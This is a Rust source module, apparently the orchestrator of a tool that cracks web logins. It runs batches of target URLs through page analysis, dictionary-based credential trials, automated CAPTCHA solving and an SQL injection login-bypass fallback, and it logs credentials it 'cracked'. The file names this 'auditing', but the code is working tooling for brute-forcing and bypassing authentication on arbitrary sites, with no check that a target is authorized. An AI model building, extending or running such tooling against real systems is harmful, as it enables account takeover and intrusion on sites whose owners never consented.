use crate::analyzer::PageAnalyzer;
use crate::captcha::CaptchaSolver;
use crate::config::AuditConfig;
use crate::dictionary;
use crate::engine::TrialEngine;
use crate::error::{AuditError, Result};
use crate::http::Session;
use crate::logging::RunLog;
use crate::model::TargetOutcome;
use crate::probe;
use std::sync::Arc;
use std::time::Duration;
use tracing::info;

/// Sequences the per-target pipeline: analyze, calibrate, build the
/// dictionary, trial, optionally retry with SQL injection payloads, then
/// verify. Targets run strictly one at a time; concurrency only exists
/// inside a target's trial phase.
pub struct Orchestrator {
    config: Arc<AuditConfig>,
    solver: Option<Arc<dyn CaptchaSolver>>,
    log: RunLog,
}

impl Orchestrator {
    pub fn new(config: Arc<AuditConfig>, log: RunLog) -> Self {
        Self {
            config,
            solver: None,
            log,
        }
    }

    pub fn with_solver(mut self, solver: Arc<dyn CaptchaSolver>) -> Self {
        self.solver = Some(solver);
        self
    }

    /// Run one target under the whole-target wall-clock budget. Every
    /// target-fatal error is converted into an outcome here; nothing
    /// propagates to the batch.
    pub async fn run_target(&self, task_id: u64, url: &str) -> TargetOutcome {
        let log = self.log.with_task_id(task_id);
        log.info(&format!("[*] auditing: {url}"));

        let budget = Duration::from_secs(self.config.timing.target_budget_secs);
        match tokio::time::timeout(budget, self.pipeline(&log, url)).await {
            Ok(Ok(Some((username, password)))) => {
                log.success(&format!("[+] cracked: {url}  {username}/{password}"));
                TargetOutcome::Cracked { username, password }
            }
            Ok(Ok(None)) => {
                log.error(&format!("[-] no working credentials: {url}"));
                TargetOutcome::NotFound
            }
            Ok(Err(e)) => {
                log.error(&format!("[-] {url}: {e}"));
                TargetOutcome::Failed(e.to_string())
            }
            Err(_) => {
                // The pipeline future is dropped here, which aborts any
                // trial workers and drops the target's session with its
                // connections.
                let reason = AuditError::Timeout(budget);
                log.error(&format!("[-] {url}: {reason}, skipping"));
                TargetOutcome::Timeout
            }
        }
    }

    async fn pipeline(&self, log: &RunLog, url: &str) -> Result<Option<(String, String)>> {
        let mut session = Session::new(&self.config)?;
        if let Some(solver) = &self.solver {
            session = session.with_solver(solver.clone());
        }

        let analyzer = PageAnalyzer::new(&session, &self.config, self.solver.clone(), log);
        let target = analyzer.analyze(url).await?;

        let baseline = probe::calibrate(&session, &target, &self.config, log).await?;
        let (usernames, passwords) = dictionary::build(url, &self.config, log)?;

        let engine = TrialEngine::new(&session, &target, baseline, &self.config, log);
        let mut hit = engine.run(&usernames, &passwords).await;

        if hit.is_none() && self.sql_injection_eligible(&target) {
            log.info(&format!("[*] {url} engaging SQL injection payload list"));
            let (sql_users, sql_passwords) = dictionary::build_sql_injection(&self.config);
            hit = engine.run(&sql_users, &sql_passwords).await;
        }

        if let Some((username, password)) = hit {
            log.info(&format!("[*] re-verifying {url} {username}/{password}"));
            if probe::verify(
                &target,
                &self.config,
                self.solver.clone(),
                log,
                &username,
                &password,
            )
            .await
            {
                return Ok(Some((username, password)));
            }
            log.info(&format!("[-] verification failed: {url} {username}/{password}"));
        }

        Ok(None)
    }

    fn sql_injection_eligible(&self, target: &crate::model::Target) -> bool {
        self.config.dictionary.sql_injection.always
            || target
                .cms_profile
                .as_ref()
                .is_some_and(|cms| cms.sql_injection_eligible)
    }

    /// Process a batch of targets strictly sequentially. Task ids start
    /// at 1 and become the logging context of each target.
    pub async fn run_batch(&self, urls: &[String]) -> Vec<(String, TargetOutcome)> {
        let mut outcomes = Vec::with_capacity(urls.len());
        for (index, url) in urls.iter().enumerate() {
            let outcome = self.run_target(index as u64 + 1, url).await;
            info!("target {} finished: {:?}", url, outcome);
            outcomes.push((url.clone(), outcome));
        }
        outcomes
    }
}
